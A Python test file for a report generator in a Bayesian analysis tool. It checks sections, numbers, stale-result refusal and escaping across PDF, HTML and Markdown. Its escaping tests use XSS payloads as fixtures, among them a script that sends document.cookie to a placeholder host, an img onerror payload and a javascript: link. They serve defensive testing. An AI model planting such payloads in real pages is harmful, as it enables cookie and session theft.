"""Reports: every section in every format, the same numbers as bw.update, escaped input."""

import datetime as dt
import html
import re
from urllib.parse import unquote

import pytest
from hypothesis import given
from hypothesis import strategies as st

import beliefwatch as bw
from beliefwatch.core.case import Evidence, Hypothesis, Indicator, Source
from beliefwatch.core.elicitation import parse_likelihood, parse_prior
from beliefwatch.examples import example_files
from beliefwatch.reports import write_report
from beliefwatch.reports.freshness import StaleResultError, result_matches
from beliefwatch.reports.markdown import md_text
from beliefwatch.reports.wording import icd203_word
from tests.cases import make_case
from tests.fonts import needs_cjk_font

SECTIONS = [
    "Bottom line",
    "Hypotheses",
    "Credence timeline",
    "Evidence",
    "What drives the conclusion",
    "Influence (leave-one-out)",
    "Assumptions and caveats",
    "Reproducibility",
]


def text_of(path):
    """What a reader sees: PDF text, HTML without tags, Markdown without its markup."""
    if path.suffix == ".pdf":
        from pypdf import PdfReader

        # pypdf puts NUL before glyphs of the fallback (CJK) font; a reader sees none.
        pages = (page.extract_text() for page in PdfReader(path).pages)
        return "\n".join(pages).replace("\x00", "")
    text = path.read_text(encoding="utf-8")
    if path.suffix == ".html":
        import html

        return html.unescape(re.sub(r"<[^>]+>", " ", text))
    return re.sub(r"[`|*]", " ", text)


@pytest.fixture(scope="module")
def example_reports(tmp_path_factory):
    case = bw.load_case(*example_files())
    result = bw.update(case, seed=7)
    folder = tmp_path_factory.mktemp("reports")
    paths = {s: write_report(case, result, folder / f"r.{s}", author="A. Analyst")
             for s in ("pdf", "html", "md")}  # fmt: skip
    return case, result, paths


@pytest.mark.parametrize("fmt", ["pdf", "html", "md"])
def test_every_section_is_present(example_reports, fmt):
    _, _, paths = example_reports
    text = text_of(paths[fmt])
    for section in SECTIONS:
        assert section in text, section
    assert "A. Analyst" in text


@pytest.mark.parametrize("fmt", ["pdf", "html", "md"])
def test_numbers_are_those_of_bw_update(example_reports, fmt):
    case, result, paths = example_reports
    text = " ".join(text_of(paths[fmt]).split())
    for h in result.hypotheses:
        lo, hi = result.intervals[h]
        assert f"{100 * result.credences[h]:.1f}%" in text
        assert f"{100 * lo:.1f}%–{100 * hi:.1f}%" in text
    assert f"Seed {result.seed}" in text
    for path in case.files:
        import hashlib

        assert hashlib.sha256(path.read_bytes()).hexdigest() in text.replace(" ", "")


@pytest.mark.parametrize("fmt", ["pdf", "html", "md"])
def test_bottom_line_uses_the_icd203_band_of_the_leader(example_reports, fmt):
    _, result, paths = example_reports
    word, lo, hi = icd203_word(result.credences[result.leader])
    text = " ".join(text_of(paths[fmt]).split())
    assert f"We assess it is {word} ({100 * lo:.0f}–{100 * hi:.0f}%) that" in text
    sentence = re.search(r"We assess it is[^.]*\.", text).group(0)
    assert "confidence" not in sentence


@pytest.mark.parametrize(
    ("p", "word"),
    [(0.03, "almost no chance"), (0.32, "unlikely"), (0.5, "roughly even chance"),
     (0.7, "likely"), (0.9, "very likely"), (0.99, "almost certain")],
)  # fmt: skip
def test_icd203_bands(p, word):
    assert icd203_word(p)[0] == word


def test_hostile_text_is_escaped_in_html(tmp_path):
    case = make_case([0.5, 0.5], [[0.8, 0.3]])
    case.evidence[0].notes = "<script>alert('x')</script>"
    case.hypotheses[0].name = "A & <b>B</b>"
    path = write_report(case, bw.update(case), tmp_path / "r.html")
    html = path.read_text(encoding="utf-8")
    assert "<script" not in html
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in html
    assert "A &amp; &lt;b&gt;B&lt;/b&gt;" in html


@pytest.mark.parametrize("fmt", ["pdf", "html", "md"])
def test_a_case_with_no_evidence(tmp_path, fmt):
    case = make_case([0.7, 0.3], [])
    path = write_report(case, bw.update(case), tmp_path / f"r.{fmt}")
    text = text_of(path)
    assert "No evidence items." in text
    assert "70.0%" in text


def test_a_case_with_200_items_breaks_across_pages(tmp_path):
    rows = [[0.4 + 0.002 * j, 0.5, 0.6 - 0.001 * j] for j in range(200)]
    case = make_case([0.3, 0.3, 0.4], rows)
    path = write_report(case, bw.update(case), tmp_path / "r.pdf")
    from pypdf import PdfReader

    reader = PdfReader(path)
    assert len(reader.pages) >= 6
    text = text_of(path)
    assert "[e199]" in text.replace("\n", "") and text.count("Date") >= 3  # headings repeat


@needs_cjk_font
def test_korean_and_chinese_render_in_the_pdf(tmp_path):
    case = make_case([0.5, 0.5], [[0.8, 0.3]])
    case.evidence[0].text = "김정은 visits 北京"
    path = write_report(case, bw.update(case), tmp_path / "r.pdf")
    assert "김정은" in "".join(text_of(path).split()) and "北京" in "".join(text_of(path).split())


def test_markdown_plots_are_png_files_beside_it(example_reports):
    _, _, paths = example_reports
    md = paths["md"]
    images = re.findall(r"!\[[^\]]*\]\(([^)]+)\)", md.read_text(encoding="utf-8"))
    assert len(images) >= 3
    for rel in images:
        assert (md.parent / rel).read_bytes()[:4] == b"\x89PNG"


def test_html_is_self_contained_with_svg_plots(example_reports):
    html = example_reports[2]["html"].read_text(encoding="utf-8")
    assert html.count("<svg") >= 3
    assert "src=" not in html and "<link" not in html


def test_command_line_report(tmp_path, run_cli):
    out = run_cli("report", "-o", tmp_path / "x.html", "--author", "Me")
    assert out.returncode == 0, out.stderr
    assert "Me" in (tmp_path / "x.html").read_text(encoding="utf-8")
    bad = run_cli("report", "-o", tmp_path / "x.docx")
    assert bad.returncode == 2
    assert "Traceback" not in bad.stderr
    assert "x.docx: report format must be one of" in bad.stderr


def test_pdf_plots_are_vector_with_real_text(example_reports):
    from pypdf import PdfReader

    first = PdfReader(example_reports[2]["pdf"]).pages[0]
    assert len(first.images) == 0  # no raster image: the bar chart is drawn in vectors
    assert "probability" in first.extract_text()  # the chart's axis label is text


# -- stale results (13.1c): a report must never mix an old result with the present case --------


def _two_items():
    # h0 leads: 0.5·0.8·0.6 against 0.5·0.2·0.5, so P(h0) = 0.48 / 0.58.
    return make_case([0.5, 0.5], [[0.8, 0.2], [0.6, 0.5]])


def test_a_result_without_the_hypothesis_it_names_is_refused(tmp_path):
    """F5, remove the leader, Export: the old result named the removed hypothesis."""
    case = make_case([0.4, 0.3, 0.3], [[0.9, 0.2, 0.3]])
    result = bw.update(case)
    assert result.leader == "h0"
    case.hypotheses.pop(0)
    for e in case.evidence:
        e.likelihoods.pop("h0")
    assert not result_matches(case, result)
    for fmt in ("pdf", "html", "md"):
        with pytest.raises(ValueError, match=r"out of date \(hypothesis 'h0' removed") as err:
            write_report(case, result, tmp_path / f"r.{fmt}")
        assert "\n" not in str(err.value)
        assert not (tmp_path / f"r.{fmt}").exists()
    assert result_matches(case, bw.update(case))


@pytest.mark.parametrize(
    ("edit", "message"),
    [
        (lambda c: c.evidence.pop(1), "item 'e1' removed"),
        (lambda c: c.evidence.append(Evidence(id="new", text="x")), "item 'new' added"),
        (lambda c: setattr(c.evidence[0], "date", dt.date(2025, 5, 1)), "item 'e0' re-dated"),
        (lambda c: setattr(c.evidence[1], "date", dt.date(2024, 1, 9)), "item 'e1' re-dated"),
        (lambda c: c.evidence[1].likelihoods.update(h1=parse_likelihood(0.9)), "item 'e1' changed"),
        (lambda c: setattr(c.hypotheses[1], "prior", parse_prior(0.9)), "the priors changed"),
        (lambda c: c.hypotheses.append(Hypothesis("h9", "New", parse_prior(0.1))),
         "hypothesis 'h9' added"),
    ],
)  # fmt: skip
def test_every_kind_of_stale_result_is_refused_with_what_differs(tmp_path, edit, message):
    case = _two_items()
    result = bw.update(case)
    edit(case)
    assert not result_matches(case, result)
    with pytest.raises(StaleResultError, match=re.escape(message)):
        write_report(case, result, tmp_path / "r.html")


def test_items_of_one_date_listed_in_another_order_make_the_timeline_stale(tmp_path):
    case = make_case([0.5, 0.5], [[0.8, 0.2], [0.6, 0.5]], dates=[dt.date(2024, 3, 1)] * 2)
    result = bw.update(case)
    case.evidence.reverse()  # same items and dates, but the timeline now runs e1, e0
    with pytest.raises(StaleResultError, match="items in another order"):
        write_report(case, result, tmp_path / "r.md")


def test_a_renamed_hypothesis_keeps_its_numbers_under_its_new_name(tmp_path):
    case = _two_items()
    result = bw.update(case)
    case.hypotheses[0].name = "Renamed leader"
    assert result_matches(case, result)
    text = " ".join(text_of(write_report(case, result, tmp_path / "r.html")).split())
    assert "that the answer is: Renamed leader." in text
    assert "Hypothesis 0" not in text


@pytest.mark.parametrize("fmt", ["html", "md"])
def test_numbers_are_taken_by_id_when_the_hypotheses_are_reordered(tmp_path, fmt):
    """Columns by position would put h1's numbers under h0 once the case lists h1 first."""
    case = _two_items()
    result = bw.update(case)
    case.hypotheses.reverse()
    assert result_matches(case, result)
    path = write_report(case, result, tmp_path / f"r.{fmt}")
    text = " ".join(text_of(path).split())
    assert "that the answer is: Hypothesis 0." in text
    assert f"{100 * 0.48 / 0.58:.1f}%" in text
    # e0 gives 10·log10(0.8 / 0.2) = +6.0 dB to the leader h0 over h1, and e1 +0.8 dB.
    rows = [r for r in path.read_text(encoding="utf-8").split("<tr>" if fmt == "html" else "\n")
            if "item 0" in r or "item 1" in r]  # fmt: skip
    assert "+6.0" in rows[0] and "0.8" in rows[0] and "0.2" in rows[0]
    assert "+0.8" in rows[1]


# -- names, not ids (13.3) ----------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["pdf", "html", "md"])
def test_the_evidence_table_heads_its_columns_with_names(tmp_path, fmt):
    case = make_case([0.5, 0.5], [[0.8, 0.3]])
    case.hypotheses[0].name = "Rogue ally: Beijing fears losing Pyongyang if it pushes"
    case.hypotheses[1].name = "Buffer"
    path = write_report(case, bw.update(case), tmp_path / f"r.{fmt}")
    text = text_of(path)
    evidence = text[text.index("Evidence") :]
    assert "Rogue ally" in evidence and "Buffer" in evidence
    assert not re.search(r"\bh[01]\b", text[text.index("Bottom line") :])


# -- analyst text is inert in every format (13.13) ----------------------------------------------

SCRIPT = "<script>document.location='http://x/?'+document.cookie</script>"
IMG = "<img src=x onerror=alert(1)>"
LINK = "[click](javascript:alert(1))"


def _hostile_case():
    case = make_case([0.5, 0.5], [[0.8, 0.3], [0.4, 0.6]], groups=["g1", "g1"])
    case.question = f"Q {SCRIPT} & co"
    case.hypotheses[0].name = f"H {IMG}"
    case.hypotheses[1].name = f"H | pipe {LINK} **bold**\nsecond line"
    first, second = case.evidence
    first.id = f"<b>id</b>`{IMG}`"  # a backtick would break out of a code span
    first.text = f"Item {SCRIPT}\n| not | a | row |"
    first.notes = f"note {IMG}"
    first.source = "src"
    case.sources.append(Source(id="src", name=f"Source {SCRIPT}"))
    second.source = f"free-text source {IMG} | x"
    case.groups[0].name = f"Group {SCRIPT}"
    case.indicators.append(Indicator(id="w1", text=f"Watch {SCRIPT}",
                                     likelihoods={"h0": parse_likelihood(0.9)}))  # fmt: skip
    return case


def test_hostile_text_in_every_field_stays_text_in_markdown(tmp_path):
    case = _hostile_case()
    path = write_report(case, bw.update(case), tmp_path / "r.md", author=f"A {IMG}")
    md = path.read_text(encoding="utf-8")
    for tag in ("<script", "<img", "<b>"):
        assert tag not in md
    assert "&lt;script&gt;" in md and "&lt;img src=x onerror=alert(1)&gt;" in md
    assert not re.search(r"(?<!\\)\]\(javascript", md)  # no live link
    assert "\\*\\*bold\\*\\*" in md
    # Every table row keeps its columns: '|' in a cell is escaped, line breaks are gone.
    for table in re.findall(r"(?:^\|.*\|$\n?)+", md, flags=re.M):
        rows = table.strip("\n").split("\n")
        widths = {len(re.findall(r"(?<!\\)\|", row)) for row in rows}
        assert len(widths) == 1, rows
    assert "Item &lt;script&gt;" in md and "\\| not \\| a \\| row \\|" in md


def test_hostile_text_in_every_field_stays_text_in_html_and_pdf(tmp_path):
    case = _hostile_case()
    result = bw.update(case)
    html = write_report(case, result, tmp_path / "r.html", author=f"A {IMG}")
    text = html.read_text(encoding="utf-8")
    assert "<script" not in text and "<img" not in text and "<b>id" not in text
    assert "Source &lt;script&gt;" in text and "Group &lt;script&gt;" in text
    pdf = write_report(case, result, tmp_path / "r.pdf", author=f"A {IMG}")
    assert SCRIPT in text_of(pdf).replace("\n", "")  # shown as typed, and no crash


def test_markdown_image_links_survive_a_file_name_with_spaces(tmp_path):
    case = make_case([0.5, 0.5], [[0.8, 0.3]])
    md = write_report(case, bw.update(case), tmp_path / "my report (1).md")
    images = re.findall(r"!\[[^\]]*\]\(([^)\s]+)\)", md.read_text(encoding="utf-8"))
    assert len(images) == 2
    for rel in images:
        assert (md.parent / unquote(rel)).read_bytes()[:4] == b"\x89PNG"


@needs_cjk_font
@pytest.mark.parametrize("fmt", ["pdf", "html", "md"])
def test_no_figure_of_a_report_draws_korean_or_chinese_as_boxes(tmp_path, fmt):
    import warnings

    case = make_case([0.5, 0.3, 0.2], [[[0.6, 0.9], 0.3, 0.5], [0.7, 0.4, 0.2]])
    case.hypotheses[0].name = "김정은 정권 유지"
    case.hypotheses[1].name = "北京的担忧"
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        write_report(case, bw.update(case, draws=200), tmp_path / f"r.{fmt}")
    assert [str(w.message) for w in caught if "missing from font" in str(w.message)] == []


@given(st.text())
def test_markdown_text_reads_back_as_typed_and_leaves_no_markup(text):
    out = md_text(text)
    assert "\n" not in out
    bare = re.sub(r"\\.", "", out)  # what is left once every escaped character is taken out
    assert not set(bare) & set("\\`*_[]|#<>")
    assert "&" not in re.sub(r"&(amp|lt|gt);", "", bare)
    assert html.unescape(re.sub(r"\\(.)", r"\1", out)) == " ".join(text.split())
